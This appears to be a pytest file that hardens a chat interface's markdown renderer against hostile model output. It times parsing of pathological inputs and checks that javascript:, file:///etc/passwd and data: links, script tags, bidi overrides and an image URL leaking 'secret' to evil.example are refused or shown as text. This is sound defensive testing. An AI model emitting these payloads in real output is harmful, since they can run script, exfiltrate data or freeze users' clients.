"""What a model, or whoever speaks through it, may write to hurt: read within a moment, nothing fetched, nothing hidden.

One input per attack. The limit is for reading one segment, with room for a slow machine: a frame has 16 ms.
"""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.ui.chat.blocks import Block, Heading, List, Paragraph, Plain, Quote, Span, Table
from app.ui.chat.characters import is_safe_address, shown, shown_code
from app.ui.chat.leaves import flatten
from app.ui.chat.markdown import parse
from app.ui.chat.maths import is_reasonable
from app.ui.chat.panels import _broken
from app.ui.chat.segments import LIMIT, Segments, read

SEGMENT_S = 0.6  # of this thread; a quiet machine takes 0.01 for most, and what is not linear takes minutes
ATTACKS = {
    "line of a megabyte": "x" * 1_000_000,
    "words of a megabyte": "word " * 200_000,
    "nested lists in a line": "- " * 10_000 + "x",
    "nested lists": "\n".join("  " * min(n, 400) + "- x" for n in range(10_000)),
    "deep quotes": ">" * 10_000 + " x",
    "quotes line by line": "\n".join("> " * (n % 200) + "x" for n in range(2_000)),
    "unclosed fence": "```\n" + "x = 1\n" * 30_000,
    "thousand fences": "```\n" * 5_000,
    "table of thousands of columns": "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "|b" * 5_000 + "|",
    "table of thousands of rows": "|a|b|\n|-|-|\n" + "|c|d|\n" * 10_000,
    "brackets": "[" * 50_000,
    "pictures in pictures": "![" * 20_000,
    "links not closed": "[a](" * 10_000,
    "angles": "<" * 50_000,
    "emphasis": "*a " * 20_000,
    "emphasis of both kinds": "*a_ " * 20_000,
    "emphasis left open": "**a" * 20_000,
    "backticks of every length": "".join("`" * n + " " for n in range(300)),
    "entities": "&" * 50_000,
    "backslashes": "\\" * 50_000,
    "dollars": "$a " * 20_000,
    "formulas not closed": "\\( " * 20_000,
    "display maths not closed": "$$\n" * 10_000,
    "headings": "# x\n" * 20_000,
    "rules": "---\n" * 20_000,
    "setext": "a\n===\n" * 10_000,
    "addresses": "http://" * 20_000,
    "combining marks": "a" + "\u0301" * 50_000,
    "zero-width": "\u200b" * 50_000,
    "overrides": "\u202e" * 50_000,
    "strikes": "~~a" * 20_000,
    "numbers": "".join(f"{n}. x\n" for n in range(20_000)),
    "tabs": "\t- x\n" * 10_000,
    "carriage returns": "\r" * 50_000,
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_is_cut_and_read_in_a_moment(attack: str) -> None:
    started = time.thread_time()
    segments = Segments(ATTACKS[attack])
    cut_s = time.thread_time() - started
    assert cut_s < 2.0
    slowest_s = 0.0
    for segment in segments.all()[:60]:
        started = time.thread_time()
        flatten(segment.blocks(segments.text))
        slowest_s = max(slowest_s, time.thread_time() - started)
    assert slowest_s < SEGMENT_S


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.sampled_from(["[", "]", "(", ")", "*", "_", "`", "<", ">", "!", "$", "~", "|", "a", " "]),
        min_size=20,
        max_size=60,
    )
)
def test_no_short_pattern_is_slow_when_it_is_repeated(pattern: list[str]) -> None:
    text = ("".join(pattern) * LIMIT)[:LIMIT]
    started = time.thread_time()
    parse(text)
    assert time.thread_time() - started < 1.0


def all_spans(blocks: tuple[Block, ...]) -> list[Span]:
    found: list[Span] = []
    for leaf in flatten(blocks):
        if isinstance(leaf.block, Paragraph | Heading):
            found += leaf.block.spans
        elif isinstance(leaf.block, Table):
            found += [span for row in (leaf.block.header, *leaf.block.rows) for cell in row for span in cell]
    return found


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "JaVaScRiPt:x", "data:text/html,x", "file:///etc/passwd", "vbscript:x", "//evil.example/x",
     "\\\\evil.example\\share", "ms-settings:x", "about:blank", "http:", "https://\u202egpj.example", "java\tscript:x",
     "ftp://x.y/z", "intent://x", "http:///x"],
)  # fmt: skip
def test_an_address_that_could_do_harm_is_text(address: str) -> None:
    assert not is_safe_address(address)
    for source in (f"[words](<{address}>)", f"<{address}>", f'[words]({address} "title")', f"[words]({address})"):
        assert not any(span.address for span in all_spans(read(source)) if address.lower() in span.address.lower())
        assert not any(span.address and not is_safe_address(span.address) for span in all_spans(read(source)))


def test_the_address_behind_refused_words_is_said() -> None:
    assert "".join(span.text for span in all_spans(read("[bank](javascript:x)"))) == "bank (javascript:x)"


@pytest.mark.parametrize("address", ["https://example.org/a?b=c", "http://x.y", "mailto:a@b.c"])
def test_web_and_mail_are_links(address: str) -> None:
    assert [span.address for span in all_spans(read(f"[words]({address})"))] == [address]


def test_a_picture_is_its_words_and_its_address() -> None:
    (paragraph,) = read("![a cat](http://evil.example/?q=secret)")
    assert paragraph == Paragraph((Span("a cat (http://evil.example/?q=secret)"),))


@pytest.mark.parametrize(
    "html", ['<img src="x">', "<script>alert(1)</script>", "<b>x</b>", "<!-- x -->", "<style>*{}</style>", "<a href=x>"]
)
def test_html_is_text(html: str) -> None:
    assert "".join(span.text for span in all_spans(read(html))) == html


def test_a_link_definition_is_not_hidden() -> None:
    assert "evil.example" in "".join(span.text for span in all_spans(read("[x]: http://evil.example\n\n[x]")))


def test_overrides_are_shown_by_their_code() -> None:
    assert shown("a\u202eb") == "a⟨U+202E⟩b"
    assert shown("\u202e" * 5000) == "⟨U+202E ×5000⟩"
    assert shown_code("if\u2066x\u200b") == "if⟨U+2066⟩x⟨U+200B⟩"
    (code,) = read("```\na\u202eb\n```")
    assert code.text == "a⟨U+202E⟩b"


def test_characters_that_would_begin_a_block_or_stand_for_a_picture_are_replaced() -> None:
    assert shown("a\u2029b\u2028c\ufffcd\x00e\x1bf\ud800") == "a b c\ufffdd␀e␛f\ufffd"


def test_an_isolate_in_prose_stays_for_who_needs_it() -> None:
    assert shown("\u2067שלום\u2069") == "\u2067שלום\u2069"


def test_what_nests_too_deep_is_shown_as_it_was_written() -> None:
    source = "> " * 60 + "deep"
    assert read(source) == (Plain(source),)


def test_a_nest_of_reasonable_depth_is_read() -> None:
    block: Block = read("> " * 8 + "deep")[0]
    depth = 0
    while isinstance(block, Quote | List):
        block = block.blocks[0] if isinstance(block, Quote) else block.items[0].blocks[0]
        depth += 1
    assert depth == 8


@pytest.mark.parametrize("tex", ["{" * 100 + "}" * 100, "x" * 5000, "\\frac" * 400, "{", "", " ", "\\left(" * 50])
def test_a_formula_that_would_take_long_is_not_drawn(tex: str) -> None:
    assert not is_reasonable(tex)


def test_no_line_of_code_is_longer_than_can_be_laid_out() -> None:
    assert max(len(line) for line in _broken("x" * 10_000).split("\u2028")) <= 1000
    assert _broken("x" * 10_000).replace("\u2028", "") == "x" * 10_000
